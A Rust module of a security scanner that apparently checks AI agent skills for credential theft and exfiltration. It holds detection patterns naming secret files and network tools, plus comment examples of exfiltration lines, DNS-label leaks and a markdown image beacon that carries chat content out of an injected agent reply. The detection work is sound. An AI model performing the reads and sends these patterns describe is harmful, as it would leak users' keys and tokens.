//! Credential access and exfiltration (categories `CredentialAccess` and
//! `Exfiltration`).
//!
//! Mentioning `~/.ssh/id_ed25519` is normal in an ssh-keygen guide; reading
//! it is suspicious; sending it anywhere is the attack. So the line rule
//! grades a secret path by what is done with it, and the analyzer looks at
//! every command that talks to the network for a secret payload: a secret
//! file, the whole environment, a secret variable outside an auth header, or
//! a variable or temp file filled from a secret earlier in the skill.
//! A token in an `Authorization` header sent to the project's own API is
//! how APIs work and is not reported. A name looked up whose first label
//! is a variable filled from a secret (`host "$t.x.example"`) carries it
//! by DNS: `exfil.dns-lookup`, `Critical`.
//!
//! `exfil.image-beacon` is the channel that needs no code: a markdown
//! image whose query string the agent is to fill in (`![](https://x/p.gif?u={message})`),
//! which the reader's client fetches by itself. `High`; `Low` when the
//! line talks about it as an attack.

use std::sync::LazyLock;

use super::engine::{Analyzer, Body, LineRef, finding};
use regex::bytes::Regex;

use super::rule::{CONTEXT, Hit, Lazy, Rule, compile, contains_ci, slice_lossy};
use super::{Category, Finding, Severity};

/// Paths whose content is a credential.
pub(super) const SECRET_PATHS: &str = r#"\.ssh/(?:id_[a-z0-9_]+|identity)(?:\.pub)?\b|\.ssh/?(?:\*|\s|$|["'`)])|\bid_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?\b(?:\.pub)?|\.aws/credentials\b|\.config/gcloud/(?:application_default_credentials\.json|credentials\.db|access_tokens\.db|legacy_credentials)|\.azure/(?:accesstokens\.json|msal_token_cache)|\.git-credentials\b|\.netrc\b|\.gnupg\b|\.password-store\b|/etc/g?shadow\b|\.kube/config\b|\.docker/config\.json|\.npmrc\b|\.pypirc\b|\bgh/hosts\.yml|\blogin\.keychain|\bkeychains/|\b(?:google-chrome|chromium|brave-browser|chrome|firefox|microsoft\s+edge)/[^\n]*(?:cookies|login\s+data|logins\.json|key4\.db|web\s+data)\b|/proc/(?:self|\d+)/environ\b|serviceaccount/token\b|\bwallet\.dat\b"#;

/// Paths that often hold secrets or reveal accounts, but are also routine.
const LESSER_PATHS: &str = r#"(?:^|[\s"'=@/<(:`])\.env(?:\.(?:local|prod|production|staging|dev|development))?(?:$|[\s"'`),;:])|/etc/passwd\b|\.(?:bash|zsh|python|psql|mysql)_history\b|\.aws/config\b"#;

const SECRET_TRIGGERS: &[&str] = &[
    ".ssh",
    // Prefixes: `id_ed25519_sk` is a key too.
    "id_rsa*",
    "id_dsa*",
    "id_ecdsa*",
    "id_ed25519*",
    ".aws/",
    "gcloud",
    ".azure",
    ".git-credentials",
    ".netrc",
    ".gnupg",
    ".password-store",
    "/etc/shadow",
    "/etc/gshadow",
    ".kube/config",
    ".docker/config",
    ".npmrc",
    ".pypirc",
    "gh/hosts",
    "keychain*",
    "google-chrome",
    "chromium",
    "brave-browser",
    "chrome/",
    "firefox",
    "microsoft edge",
    "/environ",
    "/token",
    "wallet.dat",
    ".env",
    "/etc/passwd",
    "_history",
];

static SECRET: Lazy = LazyLock::new(|| compile(SECRET_PATHS));
static ANY_SECRET: Lazy = LazyLock::new(|| compile(&format!("{SECRET_PATHS}|{LESSER_PATHS}")));

/// Commands and verbs that read, copy or ship a file's content.
static READER: Lazy = LazyLock::new(|| {
    compile(
        r"\b(?:cat|less|more|head|tail|cp|mv|scp|rsync|base64|xxd|od|hexdump|strings|tar|zip|7z|gzip|bzip2|openssl|gpg|grep|awk|sed|dd|curl|wget|nc|ncat|open|read_text|readfile|readfilesync|get-content|type|copy-item|read|include|paste|print|output|display|upload|send|attach|exfiltrate)\b|<\s*\S",
    )
});

/// An image beacon shown as an example of an attack ("a page asking the
/// bot to render `![x](https://attacker.example/?q=<chat>)`") is worth a
/// look, not a refusal.
fn beacon(h: &Hit<'_>) -> Option<Severity> {
    let line = [h.before(), h.tail()].concat();
    Some(if super::instruction::talks_about_attacks(&line) { Severity::Low } else { h.base })
}

/// The line rules of this family.
pub(super) fn rules() -> Vec<Rule> {
    use Category::{CredentialAccess as A, Exfiltration as X};
    use Severity::*;
    vec![
        // A markdown image the reader's client loads by itself, whose query
        // string the agent is to fill in: whatever goes in the blank leaves
        // with the request, unseen (the zero-click channel of an injected
        // reply). A badge's fixed URL has no blank.
        Rule::new(
            "exfil.image-beacon",
            X,
            High,
            &["!["],
            r"!\[[^\]\n]*\]\(\s*<?https?://[^\s)>]*[?&][^\s)>=]*=(?:[^\s)>&]*)(?:\{\{?\s*[a-z_][\w .|-]*\}|<[a-z_][\w-]*>|\$\{?[a-z_]\w*|%s|\[[a-z_][\w ]*\])",
        )
        .assess(beacon)
        .explainable(),
        Rule::new("cred.secret-file", A, High, SECRET_TRIGGERS, format!("{SECRET_PATHS}|{LESSER_PATHS}"))
            .assess(secret_file)
            .warnable(),
        Rule::new(
            "cred.keychain-dump",
            A,
            High,
            &["dump-keychain", "find-generic-password", "find-internet-password"],
            r"\bsecurity\s+(?:dump-keychain\b|find-(?:generic|internet)-password\b[^\n]*\s-[a-z]*[wg]\b)",
        )
        .assess(keychain)
        .warnable(),
        Rule::new(
            "cred.cloud-metadata",
            A,
            High,
            &["169.254.169.254", "metadata.google.internal", "/metadata/identity"],
            r"\b169\.254\.169\.254/(?:latest/(?:meta-data/iam|api/token)|computemetadata|metadata/identity)|\bmetadata\.google\.internal/computemetadata/v1/instance/service-accounts|/metadata/identity/oauth2/token",
        )
        .warnable(),
        Rule::new(
            "cred.ask-for-secret",
            A,
            High,
            &["ask", "asking"],
            r"\bask(?:ing)?\W+(?:them|him|her|the\W+user|users|the\W+new\W+\w+|new\W+\w+|everyone|colleagues)\W+for\W+(?:their|your|his|her)\W+(?:[\w-]+\W+){0,3}?(?:passwords?|passphrases?|tokens?|credentials|api\W+keys?|private\W+keys?|otp|mfa\W+codes?|2fa\W+codes?|recovery\W+codes?)\b",
        )
        .requires(&["password", "passphrase", "token", "credential", "key", "otp", "code"])
        .warnable()
        .span(1),
        Rule::new(
            "cred.ci-secrets-dump",
            A,
            High,
            &["tojson(secrets", "tojson( secrets"],
            r"\btojson\(\s*secrets\s*\)",
        ),
        Rule::new(
            "exfil.credential-helper",
            X,
            Critical,
            &["credential.helper"],
            r"\bcredential\.helper\b[^\n]*\b(?:curl|wget|nc|ncat|socat|scp)\b",
        ),
        Rule::new(
            "exfil.dns-lookup",
            X,
            High,
            // The pattern takes only the commands its triggers name: the
            // engine confirms no other line. `host` and `ping` are common
            // words (prose says "from another host: `…`"): they count only
            // at a command's place, right before the substitution.
            &["dig", "nslookup", "drill", "host $(", "host `", "host \"$(", "ping $(", "ping `", "ping \"$(", "ping -*"],
            r#"\b(?:dig|nslookup|drill)\b[^\n|;&]*(?:\$\(|`)[^\n]*\.[a-z]|(?:^|[;&|(`]\s*|\bdo\s+|\bthen\s+)(?:ping\s+(?:-\S+\s+)*|host\s+)(?:"?\$\(|`)[^\n]*\.[a-z]"#,
        )
        .requires(&["$(", "`"])
        .assess(dns_lookup),
        Rule::new(
            "exfil.instruction",
            X,
            High,
            &[
                "send", "upload", "post", "transmit", "forward", "paste", "share", "copy", "include", "attach",
                "email", "e-mail", "submit", "exfiltrate",
            ],
            r"\b(?:send|upload|post|transmit|forward|paste|share|copy|include|attach|e-?mail|submit|exfiltrate)\b",
        )
        .requires(&["://", "webhook", "endpoint", "pastebin", "bucket", "@"])
        .assess(exfil_instruction)
        .warnable()
        .span(1),
    ]
}

/// A credential path: read → High, mentioned → Low; routine paths one step
/// less, and not reported when only mentioned.
fn secret_file(h: &Hit<'_>) -> Option<Severity> {
    let m = h.text();
    if m.to_ascii_lowercase().trim_end_matches(|c: char| !c.is_ascii_alphanumeric()).ends_with(".pub") {
        return None;
    }
    let strong = SECRET.is_match(m.as_bytes());
    // `ssh -i KEY`, `ssh-add KEY`, `chmod 600 KEY` use a key without reading it.
    let read = reads_path(h) && !KEY_USE.is_match(h.before().as_bytes());
    match (strong, read) {
        (true, true) => Some(Severity::High),
        (true, false) if m.contains("shadow") => Some(Severity::Medium),
        (true, false) => Some(Severity::Low),
        (false, true) if m.contains(".env") || m.contains("_history") => Some(Severity::Medium),
        (false, true) => Some(Severity::Low),
        // `.env` and `/etc/passwd` are named in every config and test guide.
        (false, false) => None,
    }
}

/// One generic item named by its service (`-s NAME`), the way a script
/// keeps its own token; what browsers, chat apps and the system keep there
/// is someone else's secret.
static OWN_ITEM: Lazy = LazyLock::new(|| compile(r#"\sfind-generic-password\b[^\n|;&]*\s-s\s*["']?[\w.@-]"#));
static OTHERS_ITEM: Lazy = LazyLock::new(|| {
    compile(
        r"safe\s*storage|chrom|brave|edge|opera|vivaldi|firefox|safari|slack|discord|teams|zoom|signal|telegram|whatsapp|icloud|apple|airport|wi-?fi|1password|bitwarden|lastpass|keychain|ssh|aws|gcloud|azure|docker",
    )
});

/// `dump-keychain` and password lookups stay High; reading back one item
/// the skill's own tool stored under its service name is Medium.
fn keychain(h: &Hit<'_>) -> Option<Severity> {
    let cmd = h.tail();
    let cmd = cmd.split(['|', ';', '&', ')', '\n']).next().unwrap_or(cmd);
    let own = OWN_ITEM.is_match(cmd.as_bytes()) && !OTHERS_ITEM.is_match(cmd.as_bytes());
    Some(if own { Severity::Medium } else { h.base })
}

/// An English verb among [`READER`]'s words used in the passive: after the
/// path, it is about something else ("with the token read from an
/// environment variable", "files are only read by the dev server").
static PASSIVE: Lazy = LazyLock::new(|| {
    compile(
        r"^(?:read|included|pasted|printed|output|displayed|uploaded|sent|attached|opened|typed|copied)\s+(?:from|by)\b",
    )
});

/// Whether the line reads the path the hit matched: a reader before it
/// (`cat`, `< path`, `open(`), or after it (`-exec cat`, `.read_text()`,
/// "and paste its token"), unless that one is a passive about another
/// thing.
fn reads_path(h: &Hit<'_>) -> bool {
    if READER.is_match(h.before().as_bytes()) {
        return true;
    }
    let after = slice_lossy(h.hay, h.m.end..h.line_len.min(h.m.end + CONTEXT)).as_bytes();
    READER.find_iter(after).any(|r| !PASSIVE.is_match(&after[r.start()..]))
}

static KEY_USE: Lazy = LazyLock::new(|| {
    compile(
        r#"(?:\s-i|\bidentityfile|--key|--cert|\bssh-add|\bssh-keygen\b[^\n]*\s-f|\bchmod\s+\S+|\bchown\s+\S+)\s*=?\s*["']?[~$\w{}/.-]*$"#,
    )
});

static SECRET_NOUN: Lazy = LazyLock::new(|| {
    compile(
        r"\bcredentials?\b|\bprivate\s+keys?\b|\bssh\s+keys?\b|\bapi\s+keys?\b|\baccess\s+keys?\b|\bsecret\s+keys?\b|\btokens?\b|\bpasswords?\b|\.env\b|\benvironment\s+variables\b|\bcookies\b|\bid_rsa\b|\bid_ed25519\b|\.aws/|\.ssh/|\.npmrc\b|\.netrc\b|\bkeychain\b",
    )
});
static DESTINATION: Lazy = LazyLock::new(|| {
    compile(
        r"https?://|\bto\s+(?:the\s+|our\s+|this\s+|a\s+)?(?:webhook|endpoint|url|server|address|bucket|pastebin)\b|\b[a-z0-9._+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}\b",
    )
});
static END_OF_SENTENCE: Lazy = LazyLock::new(|| compile(r"[;!?]|\.(?:\s|$)"));

/// "Send the contents of ~/.aws/credentials to https://…": a verb, a
/// secret and a destination in one sentence. An HTTP method (`-X POST`)
/// is not a verb of the prose.
fn exfil_instruction(h: &Hit<'_>) -> Option<Severity> {
    let before = h.before().trim_end();
    if before.ends_with("-X") || before.ends_with("--request") {
        return None;
    }
    // The secret may come before the verb ("ask for the token, then email
    // it to …") or after it; the destination comes after the verb.
    let rest = h.after().as_bytes();
    let sentence = &rest[..END_OF_SENTENCE.find(rest).map_or(rest.len(), |m| m.start())];
    let earlier = h.before().as_bytes();
    let clause_start = END_OF_SENTENCE.find_iter(earlier).last().map_or(0, |m| m.end());
    let secret_after = SECRET_NOUN.find(sentence);
    if !(secret_after.is_some() || SECRET_NOUN.is_match(&earlier[clause_start..])) {
        return None;
    }
    let from = secret_after.map_or(0, |m| m.end());
    DESTINATION.is_match(&sentence[from..]).then_some(h.base)
}

fn dns_lookup(h: &Hit<'_>) -> Option<Severity> {
    let line = h.line().as_bytes();
    Some(if ANY_SECRET.is_match(line) || ENV_DUMP.is_match(line) { Severity::Critical } else { h.base })
}

const SENDER_TRIGGERS: &[&str] = &[
    "curl",
    "wget",
    "nc ",
    "ncat",
    "netcat",
    "socat",
    "scp",
    "rsync",
    "sftp",
    "ftp",
    "tftp",
    "telnet",
    "xh ",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "sendmail",
    "mutt",
    "requests.post",
    "requests.put",
    "requests.patch",
    "requests.get",
    "urllib",
    "urlopen",
    "*tpx.",
    "fetch(",
    "fetch (",
    "axios.",
    "net.webclient",
    ".upload*",
    "/dev/tcp/",
];

/// The analyzers of this family.
pub(super) fn analyzers() -> Vec<Analyzer> {
    vec![
        Analyzer { triggers: SENDER_TRIGGERS, run: secret_to_network },
        Analyzer {
            triggers: &["host ", "dig ", "nslookup", "drill ", "ping ", "getent", "resolve-dnsname"],
            run: dns_label,
        },
        Analyzer {
            triggers: &["process.env", "os.environ", "tojson(secrets", "tojson( secrets"],
            run: environment_near_network,
        },
    ]
}

/// Network calls in code, for [`environment_near_network`]. `fetch(` stands
/// outside the group: a `\b` after its `(` would miss `fetch("…")`.
static NETWORK_CODE: Lazy = LazyLock::new(|| {
    compile(
        r"\b(?:https?\.(?:request|get|post)|axios|requests\.(?:post|put|patch|get)|urllib|urlopen|httpx|net\.webclient|invoke-(?:webrequest|restmethod)|curl|wget|xmlhttprequest|sendbeacon|websocket|smtplib|sendmail)\b|\bfetch\s*\(|\bsocket\.(?:connect|send)",
    )
});

/// How many lines around a dump of the environment are searched for the
/// network call that ships it.
const ENVIRONMENT_WINDOW_LINES: usize = 15;

/// Code that serialises the whole environment (`JSON.stringify(process.env)`)
/// next to code that talks to the network: the request and the payload are
/// often a few lines apart, so a single line never shows both.
fn environment_near_network(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
    for &l in lines {
        let line = body.line(l);
        let Some(m) = ENV_DUMP.find(line.as_bytes()) else {
            continue;
        };
        let first = body.line_before(l, ENVIRONMENT_WINDOW_LINES);
        let near = body
            .lines_from(first)
            .take(2 * ENVIRONMENT_WINDOW_LINES + 1)
            .any(|(_, other)| NETWORK_CODE.is_match(other.as_bytes()));
        if near {
            out.push(finding(
                "exfil.env-dump",
                Category::Exfiltration,
                Severity::Critical,
                l,
                line,
                m.start(),
            ));
        }
    }
}

const ENV_DUMP_PATTERN: &str = r#"\btojson\(\s*secrets\s*\)|(?:^|[|;&(`]|\$\()\s*(?:env|printenv|export\s+-p|declare\s+-x)\s*(?:$|[|)`;&>])|\bos\.environ\b(?:\.copy\(\))?\s*[,)}\]]|\bdict\(\s*os\.environ\s*\)|\*\*os\.environ\b|json\.dumps\(\s*(?:dict\(\s*)?os\.environ|json\.stringify\(\s*process\.env\s*\)|\bprocess\.env\s*[,)}\]]|\b(?:get-childitem|gci|dir|ls)\s+env:"#;
/// The whole environment, rather than one variable of it.
static ENV_DUMP: Lazy = LazyLock::new(|| compile(ENV_DUMP_PATTERN));

const SECRET_VAR_PATTERN: &str = r#"\$\{\{\s*secrets\.[a-z0-9_]+\s*\}\}|\$\{?[a-z0-9_]*(?:token|secret|passw|pwd|api_?key|access_?key|private_?key|credential|session|cookie)[a-z0-9_]*\}?|\$\{?aws_[a-z_]+\}?|\bos\.environ\[\s*["'][a-z0-9_]*(?:token|secret|passw|key)[a-z0-9_]*["']|\bprocess\.env\.[a-z0-9_]*(?:token|secret|passw|key)"#;
/// A variable whose name says it holds a secret.
static SECRET_VAR: Lazy = LazyLock::new(|| compile(SECRET_VAR_PATTERN));

/// Arguments that authenticate the request rather than carry its payload;
/// the common `-H`/`-u` forms are removed by [`strip_auth_args`] first.
static AUTH_ARGS: Lazy = LazyLock::new(|| {
    compile(
        r#"(?:-H|--header|-u|--user|--oauth2-bearer)\s*=?\s*(?:"[^"]*"|'[^']*'|\S+)|\s-i\s+\S+|--netrc-file[= ]\S+|--(?:cert|key|cacert)[= ]\S+|\s-e\s+(?:"ssh[^"]*"|'ssh[^']*')|\b(?:headers|auth)\s*=\s*(?:\{[^}]*\}|\([^)]*\))"#,
    )
});

/// Anything a sender could leak: one test before the detailed ones.
static PAYLOAD: Lazy = LazyLock::new(|| {
    compile(&format!("{SECRET_PATHS}|{LESSER_PATHS}|{ENV_DUMP_PATTERN}|{SECRET_VAR_PATTERN}"))
});
/// A secret or the environment, read on an earlier line.
static SOURCE: Lazy =
    LazyLock::new(|| compile(&format!("{SECRET_PATHS}|{LESSER_PATHS}|{ENV_DUMP_PATTERN}|{STORE_READ}")));

/// Commands that print a secret from a store rather than a file: a
/// keychain, a CLI's login token, a password manager, the clipboard. Put
/// in a variable that a later command sends, they are the payload.
const STORE_READ: &str = r"\bfind-(?:generic|internet)-password\b[^\n|;&]*\s-w|\bdump-keychain\b|\bsecret-tool\s+lookup\b|\bgh\s+auth\s+token\b|\bgcloud\s+auth\s+(?:application-default\s+)?print-access-token\b|\baz\s+account\s+get-access-token\b|\baws\s+configure\s+get\s+\S*secret|\bop\s+read\b|\bvault\s+kv\s+get\b|\bpbpaste\b|\bwl-paste\b|\bxclip\b[^\n|;]*\s-o\b";

/// What a command refers to that an earlier line may have filled: `$NAME`,
/// `${NAME}`, and files after `@`, `<`, `=`, `-T`.
static REFERENCE: Lazy = LazyLock::new(|| {
    compile(
        r#"\$\{?([a-z_][a-z0-9_]*)\}?|(?:@|<\s*|--post-file=|--upload-file\s+|-T\s+)["']?([^\s"'|;&)]{4,})"#,
    )
});

const MAX_JOINED: usize = 12;
/// How far back a variable or file may have been filled with a secret.
const TAINT_LOOKBACK_LINES: usize = 100;

/// The command starting on `l`, with `\`-continued lines joined, and the
/// lines it covers.
fn logical(body: &Body<'_>, l: LineRef) -> (String, Vec<(LineRef, usize)>) {
    let mut text = String::new();
    let mut parts = Vec::new();
    for (r, line) in body.lines_from(l).take(MAX_JOINED) {
        parts.push((r, text.len()));
        match line.strip_suffix('\\') {
            Some(head) => {
                text.push_str(head);
                text.push(' ');
            }
            None => {
                text.push_str(line);
                break;
            }
        }
    }
    (text, parts)
}

/// The line of `parts` holding byte `at` of the joined command.
fn line_at(parts: &[(LineRef, usize)], at: usize) -> LineRef {
    parts.iter().rev().find(|(_, off)| *off <= at).map_or(parts[0].0, |(r, _)| *r)
}

/// Without these a command cannot carry a payload to the network: a file
/// argument, a variable, a redirection, an environment object, or a pipe
/// into the command (`cat x | curl …`; a pipe after it only carries the
/// response away). Header and credential arguments are not looked at:
/// `payload` is the command after [`strip_auth_args`].
fn may_carry_payload(payload: &[u8]) -> bool {
    // A `|` before the first sender word. No sender word holds a `|`, so
    // that is: the text before the first `|` holds no sender word.
    let piped_in = memchr::memchr(b'|', payload).is_some_and(|pipe| {
        let head = &payload[..pipe];
        !SENDER_WORDS.iter().any(|w| contains_ci(head, w.as_bytes()))
    });
    piped_in
        || memchr::memchr3(b'@', b'<', b'$', payload).is_some()
        || memchr::memchr(b'`', payload).is_some()
        // Grouped by a part they share, so that a command holding none of
        // them (the common case) costs four searches rather than six.
        || contains_ci(payload, b"env")
            && (contains_ci(payload, b"environ") || contains_ci(payload, b"process.env"))
        || contains_ci(payload, b"-file")
            && (contains_ci(payload, b"--post-file") || contains_ci(payload, b"upload-file"))
        || contains_ci(payload, b"-t ")
        || payload.contains(&b'(') && contains_ci(payload, b"open(")
}

/// The words of senders that a pipe may feed.
const SENDER_WORDS: &[&str] =
    &["curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "sendmail", "mutt", "http"];

/// `cmd` without `-H`/`--header`/`-u`/`--user` arguments, by hand: the
/// common case (a token in an `Authorization` header) needs no regex.
/// A short flag's value may be attached (`-uadmin:$TOKEN`), as curl's
/// getopt-style parser reads it; a long flag's follows a blank or `=`.
fn strip_auth_args(cmd: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    const FLAGS: &[&[u8]] = &[b"-H", b"--header", b"-u", b"--user", b"--oauth2-bearer"];
    let flag_at = |i: usize| {
        let after_blank = i == 0 || cmd[i - 1].is_ascii_whitespace();
        FLAGS
            .iter()
            .find(|f| {
                let short = f.len() == 2;
                after_blank
                    && cmd[i..].starts_with(f)
                    && cmd.get(i + f.len()).is_some_and(|b| short || b.is_ascii_whitespace() || *b == b'=')
            })
            .map(|f| f.len())
    };
    let mut out: Option<Vec<u8>> = None;
    // `cmd[..done]` is copied to `out` or skipped.
    let mut done = 0;
    for i in memchr::memchr_iter(b'-', cmd) {
        if i < done {
            continue;
        }
        let Some(len) = flag_at(i) else {
            continue;
        };
        let kept = out.get_or_insert_with(|| Vec::with_capacity(cmd.len()));
        kept.extend_from_slice(&cmd[done..i]);
        let mut j = i + len;
        while cmd.get(j).is_some_and(|b| b.is_ascii_whitespace() || *b == b'=') {
            j += 1;
        }
        // Skip one shell word, quoted or bare.
        match cmd.get(j) {
            Some(&q @ (b'"' | b'\'')) => {
                j += 1;
                // To the closing quote, stepping over escaped characters.
                while let Some(k) = cmd.get(j..).and_then(|rest| memchr::memchr2(q, b'\\', rest)) {
                    j += k;
                    if cmd[j] == q {
                        break;
                    }
                    j += 2;
                }
                j = if j < cmd.len() && cmd[j] == q { j + 1 } else { cmd.len() + 1 };
            }
            _ => {
                while cmd.get(j).is_some_and(|b| !b.is_ascii_whitespace()) {
                    j += 1;
                }
            }
        }
        kept.push(b' ');
        done = j.min(cmd.len());
    }
    match out {
        None => std::borrow::Cow::Borrowed(cmd),
        Some(mut kept) => {
            kept.extend_from_slice(&cmd[done..]);
            std::borrow::Cow::Owned(kept)
        }
    }
}

/// A variable or file of `payload` that an earlier line filled from a
/// secret (`K=$(cat ~/.ssh/id_rsa)`, `tar czf /tmp/k.tgz ~/.ssh`).
fn tainted_reference(body: &Body<'_>, before: LineRef, payload: &[u8]) -> Option<String> {
    filled_from(body, before, payload, &SOURCE)
}

/// What `payload` refers to that an earlier line filled from `source`.
fn filled_from(body: &Body<'_>, before: LineRef, payload: &[u8], source: &Regex) -> Option<String> {
    let refs: Vec<(bool, String)> = REFERENCE
        .captures_iter(payload)
        .filter_map(|c| {
            c.get(1)
                .map(|v| (true, String::from_utf8_lossy(v.as_bytes()).into_owned()))
                .or_else(|| c.get(2).map(|p| (false, String::from_utf8_lossy(p.as_bytes()).into_owned())))
        })
        .collect();
    if refs.is_empty() {
        return None;
    }
    // What to look for on earlier lines: `NAME=` for a variable, the path
    // for a file; a substring search first, the tokenising check after.
    let needles: Vec<(bool, &str, String)> = refs
        .iter()
        .map(|(is_var, name)| {
            (*is_var, name.as_str(), if *is_var { format!("{name}=") } else { name.clone() })
        })
        .collect();
    let first = body.line_before(before, TAINT_LOOKBACK_LINES);
    for (_, line) in body.lines_from(first).take(before.index - first.index) {
        for (is_var, name, needle) in &needles {
            if !line.contains(needle.as_str()) {
                continue;
            }
            let found = !*is_var
                || line
                    .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '='))
                    .any(|w| w.strip_prefix(name).is_some_and(|rest| rest.starts_with('=')));
            if found && source.is_match(line.as_bytes()) {
                return Some(if *is_var { format!("${name}") } else { name.to_string() });
            }
        }
    }
    None
}

fn secret_to_network(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
    let mut last_covered: Option<usize> = None;
    for &l in lines {
        if last_covered.is_some_and(|c| l.index <= c) {
            continue;
        }
        let (cmd, parts) = logical(body, l);
        last_covered = parts.last().map(|(r, _)| r.index);
        let c = cmd.as_bytes();
        let mut payload = strip_auth_args(c);
        if !may_carry_payload(&payload) {
            continue;
        }
        let rare_auth = [&b" -i "[..], b"--netrc", b"--cert", b"--key", b" -e ", b"headers", b"auth"];
        if payload.contains(&b'-') && rare_auth.iter().any(|m| contains_ci(&payload, m))
            || rare_auth[5..].iter().any(|m| contains_ci(&payload, m))
        {
            payload = std::borrow::Cow::Owned(AUTH_ARGS.replace_all(&payload, &b" "[..]).into_owned());
        }
        let p = &*payload;
        // The excerpt is taken from the line of the command holding the
        // offending text.
        let report = |id: &str, severity: Severity, needle: &[u8], out: &mut Vec<Finding>| {
            let at = find_bytes(c, needle).unwrap_or(0);
            let r = line_at(&parts, at);
            let text = body.line(r);
            let col = find_bytes(text.as_bytes(), needle).unwrap_or(0);
            // Shown as text under a warning, a sender is explained, not asked.
            let severity = body.unless_explained(severity, r, col..col + needle.len());
            out.push(finding(id, Category::Exfiltration, severity, r, text, col));
        };
        if PAYLOAD.is_match(p) {
            if let Some(m) = ANY_SECRET.find(p).filter(|m| !is_public_key(&p[m.start()..])) {
                let only_passwd = !SECRET.is_match(p) && m.as_bytes().ends_with(b"/etc/passwd");
                let sev = if only_passwd { Severity::High } else { Severity::Critical };
                report("exfil.secret-file", sev, m.as_bytes(), out);
                continue;
            }
            if let Some(m) = ENV_DUMP.find(p) {
                report("exfil.env-dump", Severity::Critical, m.as_bytes().trim_ascii(), out);
                continue;
            }
        }
        if let Some(t) = tainted_reference(body, l, p) {
            report("exfil.secret-file", Severity::Critical, t.as_bytes(), out);
        } else if let Some(m) = SECRET_VAR.find(p) {
            report("exfil.secret-variable", Severity::High, m.as_bytes(), out);
        }
    }
}

/// A variable as the first label of a name looked up (`host
/// "$t.x.example"`, `dig "${label:0:60}.x.example"`): a DNS query carries
/// whatever the variable holds to the name's server, wherever outbound
/// HTTP is blocked.
static LABEL_VAR: Lazy = LazyLock::new(|| {
    compile(
        r#"\b(?:host|dig|nslookup|drill|ping|getent\s+hosts|resolve-dnsname)\s+(?:-\S+\s+(?:\d+\s+)?)*["']?\$\{?([a-z_][a-z0-9_]*)(?::\d+(?::\d+)?)?\}?\.[a-z0-9-]+\.[a-z]"#,
    )
});
/// What fills a label that carries a secret: a credential file, the
/// environment, a store, or a variable whose name says it is a secret.
static LABEL_SOURCE: Lazy = LazyLock::new(|| {
    compile(&format!("{SECRET_PATHS}|{LESSER_PATHS}|{ENV_DUMP_PATTERN}|{STORE_READ}|{SECRET_VAR_PATTERN}"))
});

/// `exfil.dns-lookup` for a name whose first label is a variable filled
/// from a secret a few lines above: `Critical`.
fn dns_label(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
    for &l in lines {
        let line = body.line(l);
        let Some(c) = LABEL_VAR.captures(line.as_bytes()) else { continue };
        let (Some(all), Some(name)) = (c.get(0), c.get(1)) else { continue };
        let reference = format!("${}", String::from_utf8_lossy(name.as_bytes()));
        if filled_from(body, l, reference.as_bytes(), &LABEL_SOURCE).is_none() {
            continue;
        }
        let severity = body.unless_explained(Severity::Critical, l, all.start()..all.end());
        out.push(finding("exfil.dns-lookup", Category::Exfiltration, severity, l, line, all.start()));
    }
}

fn is_public_key(at: &[u8]) -> bool {
    let end =
        at.iter().position(|b| !(b.is_ascii_alphanumeric() || b"._-/~".contains(b))).unwrap_or(at.len());
    at[..end].ends_with(b".pub")
}

fn find_bytes(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() || needle.len() > hay.len() {
        return None;
    }
    hay.windows(needle.len()).position(|w| w.eq_ignore_ascii_case(needle))
}

#[cfg(test)]
mod tests;
